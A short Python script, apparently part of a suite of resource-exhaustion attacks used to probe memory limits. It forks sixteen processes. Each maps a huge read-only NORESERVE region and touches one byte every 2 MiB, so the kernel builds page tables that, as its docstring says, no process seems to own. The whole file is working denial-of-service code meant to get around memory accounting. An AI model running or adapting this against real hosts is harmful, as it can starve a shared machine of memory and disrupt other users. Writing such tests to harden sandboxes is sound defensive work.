"""Memory that no process seems to own: page tables. Reading one byte per 2 MiB maps the zero page and costs a page of
page tables each time."""
import ctypes
import mmap
import os
import time

from attack import LIBC, MAP_FAILED, done

NORESERVE = 0x4000
for _ in range(16):
    if os.fork() == 0:
        size = 1 << 42
        place = MAP_FAILED
        while place in (None, MAP_FAILED) and size > 1 << 21:
            place = LIBC.mmap(None, size, mmap.PROT_READ, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | NORESERVE, -1, 0)
            size >>= 1
        for at in range(0, size, 2 << 20):
            ctypes.string_at(place + at, 1)
        time.sleep(3)
        os._exit(0)
time.sleep(3)
done()
